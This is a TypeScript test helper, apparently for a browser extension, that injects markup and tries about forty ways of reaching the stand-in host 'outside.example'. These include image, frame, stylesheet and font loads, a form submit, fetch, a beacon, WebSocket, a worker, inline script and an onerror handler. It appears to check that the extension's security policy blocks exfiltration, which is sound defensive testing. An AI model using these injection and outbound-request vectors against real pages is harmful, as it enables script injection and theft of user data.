/** Host that every attempt aims at; nothing answers for it. */
export const outside = 'outside.example';

/**
 * Runs in a page of the extension: puts in markup as an injection would, and tries what a script could. Gives the names
 * of what seemed to get through.
 */
export async function tryToGetOut(host: string): Promise<string[]> {
  const at = (name: string): string => `https://${host}/${name}`;
  const box = document.createElement('div');
  // as markup, the way an injection comes
  box.setHTMLUnsafe(`
    <img src="${at('img')}"><img srcset="${at('srcset')} 2x"><picture><source srcset="${at('source')}"><img></picture>
    <video src="${at('video')}" poster="${at('poster')}"></video><audio src="${at('audio')}"></audio>
    <iframe src="${at('iframe')}"></iframe><object data="${at('object')}"></object><embed src="${at('embed')}">
    <link rel="stylesheet" href="${at('style')}"><link rel="prefetch" href="${at('prefetch')}">
    <link rel="preload" as="image" href="${at('preload')}"><link rel="modulepreload" href="${at('modulepreload')}">
    <link rel="preconnect" href="${at('')}"><link rel="dns-prefetch" href="${at('')}"><link rel="prerender" href="${at('prerender')}">
    <link rel="icon" href="${at('icon')}"><link rel="manifest" href="${at('manifest')}">
    <style>@import url(${at('import')}); @font-face{font-family:out;src:url(${at('font')})} .out{background:url(${at('background')});font-family:out}</style>
    <p class="out" style="background:url(${at('inline')});font-family:out">words</p>
    <svg><image href="${at('svg-image')}"/><use href="${at('use')}#a"/></svg>
    <form id="out" action="${at('form')}"><input name="a" value="1"></form>
    <script>globalThis.ran = true</script><img src="x:" onerror="globalThis.ran = true">
    <template shadowrootmode="open"><img src="${at('shadow')}"></template>`);
  document.body.append(box);
  const through: string[] = [];
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    try {
      await work();
      through.push(name);
    } catch {
      // refused, as it should be
      return;
    }
  };
  const opened = (target: EventTarget, event: string): Promise<void> =>
    new Promise((resolve, reject) => {
      target.addEventListener(event, () => resolve());
      target.addEventListener('error', () => reject(new Error('refused')));
      setTimeout(() => reject(new Error('nothing came')), 1500);
    });
  const element = (tag: 'script' | 'iframe' | 'img', url: string): HTMLElement => {
    const one = document.createElement(tag);
    (one as HTMLImageElement).src = url;
    document.head.append(one);
    return one;
  };
  await Promise.all([
    attempt('form', () => {
      document.querySelector<HTMLFormElement>('#out')?.submit();
      throw new Error('where it goes is seen outside');
    }),
    attempt('fetch', () => fetch(at('fetch'), { mode: 'no-cors' })),
    attempt('fetch keepalive', () => fetch(at('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST' })),
    attempt('XMLHttpRequest', () => {
      const request = new XMLHttpRequest();
      request.open('GET', at('xhr'));
      request.send();
      return opened(request, 'load');
    }),
    attempt('WebSocket', () => opened(new WebSocket(`wss://${host}/socket`), 'open')),
    attempt('EventSource', () => opened(new EventSource(at('events')), 'open')),
    attempt('beacon', () => {
      navigator.sendBeacon(at('beacon'), 'a=1');
      throw new Error('what becomes of it is seen outside');
    }),
    attempt('import', () => import(/* @vite-ignore */ at('import.js'))),
    attempt('script', () => opened(element('script', at('script')), 'load')),
    attempt('worker', () => opened(new Worker(at('worker.js')), 'message')),
    attempt('image', () => opened(element('img', at('image')), 'load')),
    attempt('inline script', () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = true';
      document.head.append(script);
      throw new Error('seen below');
    }),
  ]);
  // the inspector's own first step is let off the policy
  await new Promise((resolve) => setTimeout(resolve, 50));
  await attempt('Function', () => new Function('globalThis.ran = true')());
  if ('ran' in globalThis) through.push('injected script');
  return through;
}
